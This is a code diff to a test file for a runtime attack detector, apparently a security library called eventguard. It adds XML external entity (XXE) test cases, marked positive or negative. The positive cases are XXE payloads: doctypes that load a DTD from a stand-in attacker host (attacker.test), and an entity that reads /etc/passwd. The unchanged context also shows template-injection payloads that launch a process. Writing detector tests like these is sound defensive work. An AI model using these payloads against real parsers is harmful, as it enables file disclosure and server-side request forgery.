@@ -21,6 +21,7 @@ from eventguard.runtime.detectors import (
     scan,
     ssrf,
     ssti,
+    xxe,
 )
 
 POSITIVES: list[tuple[ModuleType, str, str]] = [
@@ -101,6 +102,28 @@ POSITIVES: list[tuple[ModuleType, str, str]] = [
         '@System.Diagnostics.Process.Start("calc")',
     ),
     (ssti, "velocity reflection on a variable", '$x.getClass().forName("java.lang.Runtime")'),
+    # xxe
+    (
+        xxe,
+        "standard public identifier with an attacker's dtd url",
+        '<!DOCTYPE foo PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://attacker.test/x.dtd">',
+    ),
+    (
+        xxe,
+        "standard host spelled as a prefix of an attacker's",
+        '<!DOCTYPE foo PUBLIC "-//W3C//X//EN" "http://www.w3.org.attacker.test/x.dtd">',
+    ),
+    (
+        xxe,
+        "entity after a standard doctype",
+        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "http://www.w3.org/x.dtd">'
+        '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
+    ),
+    (
+        xxe,
+        "parameter entity in an svg",
+        '<svg><!DOCTYPE svg [<!ENTITY % p SYSTEM "http://h/x.dtd"> %p;]></svg>',
+    ),
 ]
 
 NEGATIVES: list[tuple[ModuleType, str, str]] = [
@@ -129,6 +152,21 @@ NEGATIVES: list[tuple[ModuleType, str, str]] = [
     (ssti, "e-mail with a parenthesized domain", "Contact admin@(company).com"),
     (ssti, "a price before a word", "I paid $5.getclass"),
     (ssti, "razor-like handle in prose", "Reply to @john (he knows)"),
+    (
+        xxe,
+        "xhtml e-mail",
+        '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
+        '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd"><html><body>Hi</body></html>',
+    ),
+    (
+        xxe,
+        "apple property list",
+        '<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" '
+        '"http://www.apple.com/DTDs/PropertyList-1.0.dtd"><plist version="1.0"><dict/></plist>',
+    ),
+    (xxe, "html 4 public identifier alone", '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN">'),
+    (xxe, "html5 legacy doctype", '<!DOCTYPE html SYSTEM "about:legacy-compat">'),
+    (xxe, "xml without a doctype", '<?xml version="1.0" encoding="UTF-16"?><order id="7"/>'),
 ]
 
 
